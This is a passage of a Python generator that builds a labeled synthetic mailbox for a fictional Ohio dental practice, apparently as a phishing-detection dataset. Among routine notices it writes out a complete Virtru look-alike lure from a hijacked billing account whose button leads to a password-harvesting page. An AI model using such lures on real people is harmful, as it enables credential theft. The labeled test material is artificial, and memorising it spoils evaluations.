                extra=[("Auto-Submitted", "auto-replied"), ("X-Auto-Response-Suppress", "All"), ("X-MS-Exchange-Inbox-Rules-Loop", who.email)])


ovb = Pt("Olentangy Valley Bank", "alerts@alerts.ovbank.example", "bank", "ovbank")
def bank_alert(t, subj, text):
    plain = text + ("\n\nSign in to Online Banking: https://online.ovbank.example\nIf you didn't make this change, call us right away at 614-555-0111.\n"
                    "Olentangy Valley Bank, Member FDIC. Please don't reply to this automated message.")
    html = simple_html([H.escape(l) for l in text.split("\n") if l] + [a("https://online.ovbank.example", "Sign in to Online Banking")], "Olentangy Valley Bank", "#24553c",
                       "If you didn't make this change, call us right away at 614-555-0111.<br>Olentangy Valley Bank, Member FDIC.")
    return notice(ovb, "bank", t, subj, plain, html, extra=[("Auto-Submitted", "auto-generated")])


def virtru_parts(sender, subject_line, t):
    mid_ = ruuid()
    url = f"https://secure.virtru.com/start?htmlProtocol=1&messageId={mid_}&sender={sender.email.replace('@', '%40')}&templateId=unlock"
    plain = (f"{sender.name} ({sender.email}) has sent you a secure message.\n\nUnlock Message <{url}>\n\nSubject: {subject_line}\n\n"
             "You do not need an account to read this message. Virtru lets you read it in your browser after verifying your email address.\n"
             "Learn more about Virtru: https://www.virtru.com/faq\n\nSecured by Virtru")
    meta = base64.b64encode(('{"version":"4.1.0","messageUUID":"' + mid_ + '","policyUUID":"' + ruuid() + '","ciphertext":"' + b64(520) + '"}').encode()).decode()
    html = ('<div dir="ltr"><table cellpadding="0" cellspacing="0" style="width:100%;max-width:600px;font-family:Helvetica,Arial,sans-serif;border:1px solid #dfe3e8">'
            f'<tr><td style="padding:24px"><p style="font-size:16px;color:#2f3b48">{H.escape(sender.name)} ({H.escape(sender.email)}) has sent you a secure message.</p>'
            f'<p><a href="{H.escape(url)}" style="display:inline-block;background:#0071d1;color:#ffffff;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:bold">Unlock Message</a></p>'
            f'<p style="font-size:13px;color:#5b6b7b">Subject: {H.escape(subject_line)}</p><p style="font-size:12px;color:#8a97a5">You do not need an account to read this message. '
            '<a href="https://www.virtru.com/faq">Learn more</a></p><p style="font-size:11px;color:#8a97a5">Secured by Virtru</p></td></tr></table>'
            f'<div id="virtru-metadata" style="display:none!important;font-size:0;max-height:0;overflow:hidden">{meta}</div></div>\n')
    return plain, html


def list_post(poster, client, t, subj, refs, text, mid=None, munged=False, label=None, scen=None, poster_helo=("mail-qt1-f176.google.com", "209.85.160.176"), sig=True):
    h_ = hx(32).upper()[:32]
    msgh = "".join(R.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567") for _ in range(32))
    plain = text + (poster.sig if sig else "") + ("\n_______________________________________________\nCODS-PM mailing list -- cods-pm@lists.cods.example\n"
                                                  "To unsubscribe send an email to cods-pm-leave@lists.cods.example")
    fromdom = poster.email.split("@")[1]
    ip = "162.243.117.40"
    if munged:
        auth = (f"spf=pass (sender IP is {ip})\n smtp.mailfrom=lists.cods.example; dkim=fail (body hash did not verify)\n header.d={fromdom};dkim=pass (signature was verified)\n"
                f" header.d=lists.cods.example;dmarc=pass action=none\n header.from=lists.cods.example;compauth=pass reason=100")
    else:
        auth = (f"spf=pass (sender IP is {ip})\n smtp.mailfrom=lists.cods.example; dkim=fail (body hash did not verify)\n header.d={fromdom};dkim=pass (signature was verified)\n"
                f" header.d=lists.cods.example;dmarc=fail action=none\n header.from={fromdom};compauth=pass reason=130")
    INFRA["list-cods"]["poster"] = poster_helo
    extra = [("List-Id", "Practice managers forum of the Central Ohio Dental Society <cods-pm.lists.cods.example>"),
             ("Archived-At", f"<https://lists.cods.example/archives/list/cods-pm@lists.cods.example/message/{msgh}/>"),
             ("List-Archive", "<https://lists.cods.example/archives/list/cods-pm@lists.cods.example/>"),
             ("List-Help", "<mailto:cods-pm-request@lists.cods.example?subject=help>"), ("List-Owner", "<mailto:cods-pm-owner@lists.cods.example>"),
             ("List-Post", "<mailto:cods-pm@lists.cods.example>"), ("List-Subscribe", "<mailto:cods-pm-join@lists.cods.example>"),
             ("List-Unsubscribe", "<mailto:cods-pm-leave@lists.cods.example>"), ("Message-ID-Hash", msgh), ("X-Message-ID-Hash", msgh),
             ("X-MailFrom", poster.email), ("X-Mailman-Rule-Misses", "dmarc-mitigation; no-senders; approved; emergency; loop; banned-address; member-moderation; "
                                                                  "nonmember-moderation; administrivia; implicit-dest; max-recipients; max-size; news-moderation; no-subject; digests; suspicious-header"),
             ("X-Mailman-Version", "3.3.9"), ("Precedence", "list")]
    frm = f'"{poster.name} via CODS-PM" <cods-pm@lists.cods.example>' if munged else None
    if munged: extra.insert(0, ("Reply-To", addr(poster.name, poster.email)))
    return emit(poster, client, t, [("", "cods-pm@lists.cods.example")], None, subj, refs, plain, infra="list-cods", auth=auth, extra=extra, frm=frm,
                mid=mid, label=label, scen=scen, env="cods-pm-bounces@lists.cods.example")


INFRA["gdrive"] = dict(helo=[("mail-sor-f69.google.com", "209.85.220.69")], dk=[("google.com", "20230601")], env="drive-shares-dm-noreply.bounces.google.com", dmarc="reject", ctry="US")
OIT_TO = [("Olentangy IT Service Desk", "support@olentangyit.example")]

# ================================================================ background: carrier notices, clearinghouse, voicemail, lab invoices, orders, newsletters
PATIENTS = [("R. P.", "0913"), ("L. H.", "4471"), ("M. A.", "2038"), ("J. W.", "7710"), ("D. S.", "6652"), ("A. R.", "3109"), ("T. N.", "8824"), ("K. O.", "1190"),
            ("S. B.", "5527"), ("C. M.", "0346"), ("E. F.", "9983"), ("G. T.", "2271")]
LOCS = ["Clintonville", "Dublin", "Grove City"]
d = datetime.datetime(2024, 8, 8, 6, 10, tzinfo=ET)
while d < datetime.datetime(2025, 5, 29, tzinfo=ET):
    pt_, mem = R.choice(PATIENTS)
    status = R.choice(["Processed - payment issued", "Processed - payment issued", "Pended - additional information requested (x-ray/narrative)",
                       "Predetermination completed", "Denied - frequency limitation"])
    amt = f"{R.randint(80, 2400)}.{R.randint(0, 99):02d}" if "payment" in status else None
    eob(d.replace(minute=R.randint(2, 40)), f"{d:%Y%m%d}-{R.randint(10000, 99999)}", mem, pt_, R.choice(LOCS), status, amt)
    d += TD(days=R.choice([9, 11, 12, 14]))

REJ = ["Great Lakes: subscriber DOB does not match (claim 4481)", "Buckeye Mutual Dental: missing tooth surface on D2392 (claim 4497)",
       "Great Lakes: attachment required for D4341 - perio charting (claim 4502)", "Heartland Dental Plan: invalid payer ID after plan change (claim 4510)",
       "Great Lakes: rendering provider not credentialed (claim 4517)"]
d = datetime.datetime(2024, 8, 12, 6, 0, tzinfo=CT)
while d < datetime.datetime(2025, 5, 27, tzinfo=CT):
    rej = R.choice([0, 0, 1, 2, 3])
    cb_report(d.replace(minute=R.randint(0, 9)), R.randint(38, 71), rej, R.randint(3, 14), R.sample(REJ, rej))
    d += TD(days=14)

TRANSCRIPTS = [("6145550188", "WIRELESS CALLER", "Hi, this is Mary Ellen Cho, I need to move my cleaning on Thursday, please call me back at 614-555-0188."),
               ("6145550121", "GREAT LAKES DENT", "This is Great Lakes Dental Benefits provider services returning a call about claim ending 4517, reference number 88213."),
               ("6145550136", "WIRELESS CALLER", "Hey, it's Tom from Midwest, just checking whether the Dublin office got the glove delivery. Call my cell."),
               ("6145550149", "COLUMBUS OH", "Hi, I'm calling about a bill I got, I think my insurance should have paid it. My name is Fred Hollis, 614-555-0149."),
               ("6145550167", "WIRELESS CALLER", "Hi Denise, it's Lisa at Buckeye Dental Arts, case 25-0188 will be a day late, Greg wants to redo the margins. Thanks."),
               ("6145550153", "OLENTANGY IT", "Hi, Jake from Olentangy IT, the firewall firmware update is scheduled tonight at 9, internet will drop for a couple of minutes."),
               ("6145550104", "WIRELESS CALLER", "Yes hi, I have a chipped tooth and some pain, can someone call me back today? This is Andre, 614-555-0104."),
               ("6145550172", "HARTWELL MOSS", "Hi Denise, Josh from Hartwell and Moss, just left you the password for the zip file, call me back if it does not work."),
               ("6145550190", "COLUMBUS OH", "This is Carla from Mid-Ohio Property, the sprinkler inspection at Grove City is Tuesday morning, they will need the back room.")]
vm_days = sorted(R.sample(range(0, 290), 30))
for i, dd in enumerate(vm_days):
    t_ = datetime.datetime(2024, 8, 6, 8, 0, tzinfo=ET) + TD(days=dd)
    if t_.weekday() >= 5: t_ += TD(days=7 - t_.weekday())
    t_ = t_.replace(hour=R.randint(8, 16), minute=R.randint(0, 59))
    num, nm, tr = TRANSCRIPTS[i % len(TRANSCRIPTS)]
    if num == "6145550172" and t_ < datetime.datetime(2025, 1, 29, tzinfo=ET): num, nm, tr = TRANSCRIPTS[0]
    voicemail(t_, R.choice("CCDGM"), num, nm, R.randint(14, 95), tr)

OLD_REMIT = "Short North Savings Bank, ACH routing 044-118-332, acct ending 2064"
NEW_REMIT = "Franklin Commerce Bank, ACH routing ending 5318, acct ending 7719"
for k, (y, mo) in enumerate([(2024, 8), (2024, 9), (2024, 10), (2024, 11), (2024, 12), (2025, 1), (2025, 2), (2025, 3), (2025, 4), (2025, 5)]):
    t_ = datetime.datetime(y, mo, 1, 7, 30, tzinfo=ET)
    while t_.weekday() >= 5: t_ += TD(days=1)
    amt = f"{R.randint(3900, 6900):,}.00"
    qbo_invoice(t_.replace(minute=R.randint(5, 55)), 24117 + 131 * k, amt, f"{(t_ + TD(days=30)):%m/%d/%Y}", NEW_REMIT if (y, mo) >= (2025, 2) else OLD_REMIT)

ORD = [("W7781203", [(20, "Nitrile exam gloves, M (case)"), (20, "Nitrile exam gloves, L (case)"), (6, "Flowable composite A2, 2g")]),
       ("W7794410", [(4, "Sterilization pouches 3.5x9 (box 200)"), (2, "Prophy paste, medium, mint (200)")]),
       ("W7812550", [(10, "Nitrile exam gloves, M (case)"), (10, "Nitrile exam gloves, L (case)")]),
       ("W7830917", [(3, "Disposable prophy angles (500)"), (12, "Surface disinfectant wipes")]),
       ("W7851044", [(2, "Impression material, heavy body cartridge 2x50ml"), (5, "Bite registration 50ml")]),
       ("W7877302", [(1, "Autoclave 11in chamber, demo-to-own"), (1, "Installation & training")]),
       ("W7890156", [(20, "Nitrile exam gloves, M (case)"), (4, "Saliva ejectors (1000)")])]
for i, (o, items) in enumerate(ORD):
    t_ = datetime.datetime(2024, 8, 19, 14, 0, tzinfo=CT) + TD(days=40 * i + R.randint(0, 6))
    if i == 5: t_ = datetime.datetime(2025, 2, 12, 15, 20, tzinfo=CT)
    mds_order(t_, o, items)
    trk = f"1Z{HX(6)}03{R.randint(10**7, 10**8 - 1)}"
    mds_order(t_ + TD(days=1, hours=2), o, items, ship=trk)
    if i in (0, 2, 4): ups_note(t_ + TD(days=3, hours=-5), trk, "Delivered", R.choice(["GROVE CITY, OH", "DUBLIN, OH", "COLUMBUS, OH"]))

cods = Pt("Central Ohio Dental Society", "news@cods.example", "mc", "mc-cods")
CODS_TOPICS = ["OSHA bloodborne pathogens refresher (Sept 12, CE 2 hrs)", "Fall Dental Meeting registration now open", "Ohio State Dental Board CE audit reminders",
               "Holiday schedule and member benefits update", "2025 dues are due by January 31", "Give Kids A Smile volunteers needed (Feb 7)",
               "HIPAA Security Rule proposed changes: what practices should know", "Spring CE: radiation safety for auxiliaries", "Legislative day recap", "Summer social & awards"]
for i, tp in enumerate(CODS_TOPICS):
    y, mo = (2024, 8 + i) if 8 + i <= 12 else (2025, i - 4)
    t_ = datetime.datetime(y, mo, 8, 10, 0, tzinfo=ET)
    while t_.weekday() != 1: t_ += TD(days=1)
    url = f"https://cods.us21.list-manage.example/track/click?u={hx(25)}&id={hx(10)}&e={hx(10)}"
    unsub = f"https://cods.us21.list-manage.example/unsubscribe?u={hx(25)}&id={hx(10)}&e={hx(10)}&c={hx(10)}"
    plain = (f"CODS Bulletin - {t_:%B %Y}\n\n** {tp}\n------------------------------------------------------------\nRead more: {url}\n\n** Member spotlight, classifieds and job board\n"
             f"Read more: {url}\n\n============================================================\nCentral Ohio Dental Society, 1370 Dublin Rd, Columbus, OH 43215\n"
             f"Want to change how you receive these emails? Unsubscribe: {unsub}")
    html = simple_html([f"<b>{H.escape(tp)}</b>", a(url, "Read more"), "Member spotlight, classifieds and job board - " + a(url, "read more")], f"CODS Bulletin - {t_:%B %Y}",
                       "#5b2c6f", f"Central Ohio Dental Society, 1370 Dublin Rd, Columbus, OH 43215<br>{a(unsub, 'Unsubscribe')}")
    notice(cods, "mc", t_.replace(minute=R.randint(0, 30)), f"CODS Bulletin - {t_:%B %Y}: {tp}", plain, html,
           extra=[("List-Unsubscribe", f"<{unsub}>, <mailto:unsubscribe-mc.us21_{hx(20)}@unsubscribe.mailchimpapp.example>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"),
                  ("X-Mailer", f"Mailchimp Mailer - **CID{hx(20)}**"), ("X-Campaign", f"mailchimp{hx(25)}.{hx(10)}"), ("X-campaignid", f"mailchimp{hx(25)}.{hx(10)}"),
                  ("X-MC-User", hx(25)), ("Feedback-ID", f"{R.randint(10**7, 10**8)}:{R.randint(10**7, 10**8)}.{R.randint(10**5, 10**6)}:us21:mc"), ("Precedence", "bulk")],
           frm='"Central Ohio Dental Society" <news@cods.example>')

ocn = Pt("OpenChair Software", "news@openchairsoftware.example", "hs", "hs-openchair", tz=MT)
for t_, ver, notes in [(at(2024, 9, 24, 9, 0, MT), "24.3", "New payer ID map editor, faster claim batching, imaging bridge for Sidexis 4.3"),
                       (at(2024, 12, 10, 9, 0, MT), "24.4", "Year-end reports, 2025 CDT codes, perio chart voice entry"),
                       (at(2025, 3, 18, 9, 0, MT), "25.1", "Cloud backup console redesign, MFA for practice admin accounts, new fee schedule import"),
                       (at(2025, 5, 13, 9, 0, MT), "25.2", "Patient portal payments, insurance eligibility auto-check")]:
    url = f"https://www.openchairsoftware.example/release-notes/{ver}?utm_source=hs_email&utm_medium=email&_hsenc=p2ANqtz-{alnum(40)}"
    unsub = f"https://hs.openchairsoftware.example/hs/manage-preferences/unsubscribe?d={alnum(40)}"
    plain = (f"OpenChair {ver} is here\n\nWhat's new: {notes}.\n\nThe update installs automatically on your server during the maintenance window you chose in Setup > Updates.\n"
             f"Full release notes: {url}\n\nOpenChair Software, 3300 N Ashton Blvd, Lehi, UT 84043\nUnsubscribe: {unsub}")
    notice(ocn, "hs", t_, f"OpenChair {ver} release notes", plain, simple_html([f"<b>OpenChair {ver} is here</b>", H.escape(notes), a(url, "Full release notes")], "OpenChair", "#0e7c86",
           f"OpenChair Software, 3300 N Ashton Blvd, Lehi, UT 84043<br>{a(unsub, 'Unsubscribe')}"),
           extra=[("List-Unsubscribe", f"<{unsub}>"), ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("X-HS-Cid", alnum(30)), ("Precedence", "bulk")])

mdsm = Pt("Midwest Dental Supply", "offers@e.midwestdentalsupply.example", "sfmc", "sfmc-mds", tz=CT)
for t_, promo in [(at(2024, 8, 28, 8, 0, CT), "Back-to-school savings on prophy and preventive"), (at(2024, 10, 16, 8, 0, CT), "Fall equipment event: 0% financing"),
                  (at(2024, 12, 3, 8, 0, CT), "Year-end Section 179 deadline is Dec 31"), (at(2025, 2, 4, 8, 0, CT), "Infection control essentials - buy 10 get 1"),
                  (at(2025, 4, 8, 8, 0, CT), "Spring impression material sale")]:
    url = f"https://click.e.midwestdentalsupply.example/?qs={hx(64)}"
    unsub = f"https://cloud.e.midwestdentalsupply.example/unsub?qs={hx(40)}"
    plain = f"{promo}\n\nShop now: {url}\n\nMidwest Dental Supply | 7400 Metro Blvd, Edina, MN 55439\nUnsubscribe: {unsub}"
    notice(mdsm, "sfmc", t_, promo, plain, simple_html([f"<b>{H.escape(promo)}</b>", a(url, "Shop now")], "Midwest Dental Supply", "#00558c", a(unsub, "Unsubscribe")),
           extra=[("List-Unsubscribe", f"<{unsub}>"), ("x-job", f"{R.randint(10**6, 10**7)}_{R.randint(10**6, 10**7)}"), ("Precedence", "bulk")])


# ================================================================ T1 Keystone: monthly A/R review (Tanya, later Alyssa); A1 server-hijack
def ar_pdf(month, total, o90, credits, when):
    return pdf([f"Keystone Revenue Partners - A/R Summary: {month}", "Client: Scioto Family Dental Group (3 locations)", f"Total A/R: ${total}", f"Over 90 days: ${o90}",
                f"Credit balances: {credits}", "By location: Clintonville | Dublin | Grove City", "Summary only - no patient identifiers"],
               producer="Google Docs Renderer", when=when, zone="-04'00'" if when[4:6] in ("04", "05", "06", "07", "08", "09", "10") else "-05'00'")

t1 = Thread("T1", tanya, "Scioto Family Dental - monthly A/R review")
t1.add(tanya, "Hi Denise,\n\nAttached is the July A/R summary by location (summary only, no patient names). A few things to flag:\n\n"
       "- Total A/R is $186,420, down about $9k from June.\n- Over-90 is up at Grove City ($21,300), almost all Great Lakes crown and SRP claims that went out "
       "without narratives or perio charting.\n- Credit balances: 11 accounts, $2,486.15. I'll send the patient-level list through Virtru in a minute.\n\n"
       "Can we get the missing narratives from Dr. Haddad? Once they're in OpenChair we can resubmit with attachments through ClaimBridge.",
       at(2024, 8, 7, 9, 42), atts=[("SFDG_AR_Summary_2024-07.pdf", ar_pdf("July 2024", "186,420", "38,910", "11 accounts / $2,486.15", "20240807093500"), "application/pdf")])
vp, vh = virtru_parts(tanya, "July credit balances - patient detail", at(2024, 8, 7, 9, 51))
t1.add(tanya, vp, at(2024, 8, 7, 9, 51), GH, sig=False, quote=False, html=vh, scen=("G1", "billing company's real Virtru secure-message notice in the A/R thread (secure.virtru.com link)"))
t1.add(me, "Hi Tanya,\n\nThanks - I was able to unlock the detail. The Grove City narratives were held up because Dr. Haddad hadn't signed the July notes; he signed them "
       "this morning, so everything from 7/1 on should now be attached in OpenChair.\n\nOn the credit balances, please go ahead with refunds on anything over $50; the "
       "smaller ones can stay on account unless the patient asks.", at(2024, 8, 8, 10, 14))
t1.add(tanya, "Great, Marcus will start the resubmissions tomorrow. Refund checks for the 6 accounts over $50 go out with Friday's run; I'll send the check register when "
       "they're cut.", at(2024, 8, 8, 11, 3), G)
t1.add(tanya, "Hi Denise,\n\nAugust summary attached. Over-90 at Grove City dropped to $12,900 after the resubmissions - thank you!\n\nNew issue: Dublin has 14 claims for "
       "Dr. Kim that are pending because she isn't credentialed with Great Lakes yet. Until she's effective we'll hold them. The credit balance list is coming through "
       "Virtru again.", at(2024, 9, 6, 14, 20), G, atts=[("SFDG_AR_Summary_2024-08.pdf", ar_pdf("August 2024", "178,300", "29,440", "9 accounts / $1,710.60", "20240906141000"), "application/pdf")])
t1.add(me, "Thanks Tanya. I'm working with Great Lakes provider relations on Dr. Kim's credentialing right now; they told me 60-90 days. Please hold the Dublin claims "
       "and don't bill them under Dr. Haddad.", at(2024, 9, 9, 8, 31))
t1.add(tanya, "Understood - we will hold, not re-render. I've added a note on each claim so nobody on our side changes the provider.", at(2024, 9, 9, 9, 12), G)
t1.add(tanya, "Hi Denise,\n\nSeptember summary attached. Total A/R is $171,050.\n\nPatient balances over 120 days: 23 accounts. Do you want us to send the final notice "
       "letter before collections, same as last year?", at(2024, 10, 8, 13, 5), G,
       atts=[("SFDG_AR_Summary_2024-09.pdf", ar_pdf("September 2024", "171,050", "24,120", "12 accounts / $2,930.75", "20241008125500"), "application/pdf")])
t1.add(me, "Yes, same letter as last year, but please leave out the two accounts with active payment plans - I'll mark them in OpenChair with the 'PP' flag today.",
       at(2024, 10, 9, 9, 48))
t1.add(tanya, "Will do. Letters go out Friday; anything unpaid after 30 days comes back to you for a decision before collections.", at(2024, 10, 9, 10, 20), G)
t1.add(tanya, "Hi Denise,\n\nOctober summary attached. Total A/R $166,880; the Dublin holds for Dr. Kim are now 21 claims ($9,870). Credit balance detail follows in a "
       "secure message.", at(2024, 11, 6, 15, 2), G,
       atts=[("SFDG_AR_Summary_2024-10.pdf", ar_pdf("October 2024", "166,880", "22,310", "10 accounts / $2,204.90", "20241106145200"), "application/pdf")])
vp, vh = virtru_parts(tanya, "October credit balances - patient detail", at(2024, 11, 6, 15, 9))
t1.add(tanya, vp, at(2024, 11, 6, 15, 9), GH, sig=False, quote=False, html=vh, scen=("G2", "second real Virtru notice (October credit balances) from the billing company"))

# A1: Tanya's real Workspace account, Gmail web, Saturday 05:12 - Virtru look-alike whose button opens a Google Drawings page
a1_url = f"https://docs.google.com/drawings/d/1{alnum(10)}-{alnum(22)}/preview?usp=sharing"
a1_plain = ("Tanya Brooks has sent you a secure message.\n\nUnlock Message <" + a1_url + ">\n\nSubject: Updated remittance & credit balance reconciliation - ACTION REQUIRED\n"
            "Expires: 11/10/2024\n\nYou will be asked to verify your email account to view this message.\n\nSecured by Virtru")
a1_html = ('<div dir="ltr"><table cellpadding="0" cellspacing="0" style="width:100%;max-width:600px;font-family:Helvetica,Arial,sans-serif;border:1px solid #dfe3e8">'
           '<tr><td style="padding:24px"><p style="font-size:16px;color:#2f3b48">Tanya Brooks has sent you a secure message.</p>'
           f'<p><a href="{a1_url}" style="display:inline-block;background:#0071d1;color:#ffffff;padding:12px 28px;border-radius:4px;text-decoration:none;font-weight:bold">Unlock Message</a></p>'
           '<p style="font-size:13px;color:#5b6b7b">Subject: Updated remittance &amp; credit balance reconciliation - ACTION REQUIRED<br>Expires: 11/10/2024</p>'
           '<p style="font-size:12px;color:#8a97a5">You will be asked to verify your email account to view this message.</p><p style="font-size:11px;color:#8a97a5">Secured by Virtru</p>'
           '</td></tr></table></div>\n')
t1.add(tanya, a1_plain, at(2024, 11, 9, 5, 12), HJ("server-hijack"), sig=False, quote=False, html=a1_html, detached=True,
       scen=("A1", "billing company's real Workspace account (Gmail web, same headers) sends a Virtru look-alike on Saturday 05:12; 'Unlock' opens a Google Drawings page"))
t1.add(me, "Hi Tanya,\n\nI got a 'secure message' from you early Saturday that opened a Google drawing and then asked for my Microsoft password. I didn't enter anything. "
       "It didn't look like your usual Virtru messages - is it from you?", at(2024, 11, 11, 8, 40))
t1.add(tanya, "Denise - thank you for asking. No, that was not us. Someone got into my mailbox early Saturday and sent that to a good part of my contact list. Our IT "
       "reset my password, signed out every session and put a hardware key on my account.\n\nPlease delete it. If anyone on your side clicked and typed a password, "
       "have them change it and let Olentangy IT know. Our real patient detail still only comes through Virtru with the secure.virtru.com link.",
       at(2024, 11, 11, 9, 15), GH, scen=("G3", "billing contact confirms her mailbox was compromised and warns about the fake message (lure words, no payload)"))
t1.add(tanya, "Hi Denise,\n\nNovember summary attached - and apologies again for last month's excitement. Total A/R $161,420. Dr. Kim's effective date with Great Lakes came "
       "through as 12/1, so we'll release the Dublin holds for dates of service from 12/1 and appeal the earlier ones with the approval letter.", at(2024, 12, 6, 11, 33), G,
       atts=[("SFDG_AR_Summary_2024-11.pdf", ar_pdf("November 2024", "161,420", "20,880", "8 accounts / $1,402.35", "20241206112000"), "application/pdf")])
t1.add(me, "Thanks Tanya, that's great news. I'll send you the approval letter from Great Lakes so you have it for the appeals.", at(2024, 12, 9, 8, 55))
t1.add(tanya, "Hi Denise,\n\nSome news: starting February I'm moving over to our hospital group clients, and Alyssa Romero (copied) will be your account manager. She has "
       "been with Keystone four years on our pediatric and ortho accounts. I'll send the December summary together with her this week, and we'll do a handoff call on "
       "the 16th if that works for you.", at(2025, 1, 8, 10, 2), G, cc=[(alyssa.name, alyssa.email)])
t1.add(me, "Congratulations Tanya - we'll miss you! Welcome Alyssa. The 16th works; I'm at Clintonville all day, any time after 11.", at(2025, 1, 8, 10, 40),
       to=[(tanya.name, tanya.email)], cc=[(alyssa.name, alyssa.email)])
t1.add(alyssa, "Hi Denise,\n\nHere's the January summary - my first month on your account, so tell me if you'd like anything laid out differently than Tanya did. Total A/R "
       "$158,700. Dr. Kim's Great Lakes claims are flowing now. Credit balance detail to follow via Virtru.", at(2025, 2, 7, 13, 48), GH,
       scen=("G4", "new billing account manager (introduced in the thread a month earlier) writes herself for the first time"),
       atts=[("SFDG_AR_Summary_2025-01.pdf", ar_pdf("January 2025", "158,700", "19,050", "9 accounts / $1,655.10", "20250207134000"), "application/pdf")])
vp, vh = virtru_parts(alyssa, "January credit balances - patient detail", at(2025, 2, 7, 13, 55))
t1.add(alyssa, vp, at(2025, 2, 7, 13, 55), G, sig=False, quote=False, html=vh)
t1.add(me, "Thanks Alyssa, this looks great and the Virtru detail opened fine.", at(2025, 2, 10, 9, 5), to=[(alyssa.name, alyssa.email)])
gd_url = f"https://drive.google.com/drive/folders/1{alnum(32)}?usp=sharing"
gdn = Pt("Alyssa Romero (via Google Drive)", "drive-shares-dm-noreply@google.com", "gdrive", "gdrive")
notice(gdn, "gdrive", at(2025, 3, 7, 10, 58), 'Folder shared with you: "Scioto Family Dental - Keystone reports"',
       f"Alyssa Romero shared a folder\n\nAlyssa Romero (alyssa.romero@keystonerevenue.example) has invited you to view the following folder:\n\nScioto Family Dental - Keystone reports\n{gd_url}\n\n"
       "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA\nYou have received this email because alyssa.romero@keystonerevenue.example shared a folder with you from Google Drive.",
       simple_html(["Alyssa Romero (alyssa.romero@keystonerevenue.example) has invited you to view the following folder:", a(gd_url, "Scioto Family Dental - Keystone reports")],
                   "Google Drive", "#1a73e8", "Google LLC, 1600 Amphitheatre Parkway, Mountain View, CA 94043, USA"),
       extra=[("Reply-To", "Alyssa Romero <alyssa.romero@keystonerevenue.example>")])
t1.add(alyssa, "Hi Denise,\n\nFebruary summary is ready. We're moving client reports into a shared Google Drive folder so you always have the history in one place - you "
       "should have just received the access notice for 'Scioto Family Dental - Keystone reports'.\n\nFebruary summary: https://drive.google.com/file/d/1" + alnum(32) +
       "/view?usp=drive_link\n\nHighlights: total A/R $152,900; over-90 down to $15,200; 7 credit balances (detail via Virtru as always).", at(2025, 3, 7, 11, 4), GH,
       scen=("G5", "new billing account manager posts the monthly summary as a drive.google.com link after announcing the shared folder"))
t1.add(me, "Got it - the folder opens fine and I can see all of the 2025 reports. Thank you!", at(2025, 3, 10, 8, 22), to=[(alyssa.name, alyssa.email)])
t1.add(alyssa, "March summary is in the folder: https://drive.google.com/file/d/1" + alnum(32) + "/view?usp=drive_link\n\nTotal A/R $149,300. The only open item "
       "is the Heartland payer ID change - we'll need the new ID entered in OpenChair.", at(2025, 4, 8, 14, 17), G)
t1.add(me, "Entered the new Heartland payer ID (HDP42) this morning.", at(2025, 4, 9, 8, 12), to=[(alyssa.name, alyssa.email)])
t1.add(alyssa, "Thank you! April summary: https://drive.google.com/file/d/1" + alnum(32) + "/view?usp=drive_link - all Heartland claims went through this week.",
       at(2025, 5, 7, 13, 31), G)

# ================================================================ T2 Keystone payer follow-up (Marcus); G6 calendar invitation; G7 Virtru; A6 account-takeover
t2 = Thread("T2", marcus, "Great Lakes downgrades - D2740 at Dublin")
t2.add(marcus, "Hi Denise,\n\nHeads-up from this month's EOBs: Great Lakes is downgrading porcelain crowns (D2740) on molars to the full-cast allowance (D2792) at Dublin - "
       "9 claims since July, about $1,940 in patient portions nobody was quoted. It's the alternate-benefit clause in most of their employer plans.\n\nDo you want us to "
       "appeal with x-rays and narratives, or just bill the patients the difference?", at(2024, 9, 17, 10, 26))
t2.add(me, "Hi Marcus,\n\nLet's appeal the ones on #2-#3 and #14-#15 (visible when they smile) and bill the rest. Dr. Haddad wants the front desk to start quoting the "
       "downgrade in estimates; I'll handle that on our side.", at(2024, 9, 17, 13, 2))
t2.add(marcus, "Sounds good, appeals go out this week. I'll also set up a monthly 30-minute call so we can walk through payer issues together - the invite will come from "
       "my calendar.", at(2024, 9, 18, 9, 40), G)
gcal = Pt("Marcus Webb", "marcus.webb@keystonerevenue.example", "gcal", "gcal-keystone")
meet = f"https://meet.google.com/{alnum(3).lower()}-{alnum(4).lower()}-{alnum(3).lower()}"
st = at(2024, 10, 17, 14, 0); st = st.replace(second=0)
gics = ics(f"{hx(26)}@google.com", "Keystone / Scioto monthly billing check-in", st, 30, (marcus.name, marcus.email), (me.name, me.email),
           meet, f"Monthly payer review: appeals, downgrades, credentialing, credit balances.\n\nJoin with Google Meet: {meet}\nOr dial: (US) +1 614-555-0390 PIN: 418 227 903#")
gplain = (f"Keystone / Scioto monthly billing check-in\nThursday Oct 17, 2024 - Monthly on the third Thursday - 2pm - 2:30pm (Eastern Time - New York)\n\nJoin with Google Meet\n{meet}\n\n"
          "Join by phone\n(US) +1 614-555-0390 PIN: 418 227 903#\n\nOrganizer\nMarcus Webb\nmarcus.webb@keystonerevenue.example\n\nGuests\nMarcus Webb - organizer\n"
          "dkowalski@sciotofamilydental.example\n\nView all guest info https://calendar.google.com/calendar/event?action=VIEW&eid=" + alnum(60) + "\n\nReply for dkowalski@"
          "sciotofamilydental.example\nYes https://calendar.google.com/calendar/event?action=RESPOND&eid=" + alnum(60) + "&rst=1\n\nInvitation from Google Calendar")
gcal_h = simple_html(["<b>Keystone / Scioto monthly billing check-in</b>", "Thursday Oct 17, 2024 &middot; Monthly on the third Thursday &middot; 2pm - 2:30pm (Eastern Time - New York)",
                      f'<a href="{meet}" style="background:#1a73e8;color:#fff;padding:8px 16px;text-decoration:none;border-radius:4px">Join with Google Meet</a>',
                      "Organizer: Marcus Webb"], "Google Calendar", "#1a73e8", "Invitation from Google Calendar")
emit(gcal, "gcal", at(2024, 9, 18, 9, 52), [(me.name, me.email)], None,
     "Invitation: Keystone / Scioto monthly billing check-in @ Monthly from 2pm to 2:30pm on the third Thursday (EDT) (dkowalski@sciotofamilydental.example)", [],
     gplain, html=gcal_h, atts=[("invite.ics", gics, 'application/ics')],
     extra=[("Reply-To", "Marcus Webb <marcus.webb@keystonerevenue.example>"), ("Sender", "Google Calendar <calendar-notification@google.com>"),
            ("Auto-Submitted", "auto-generated")], label=GH, scen=("G6", "genuine Google Calendar invitation from the billing specialist (invite.ics, Meet link)"))
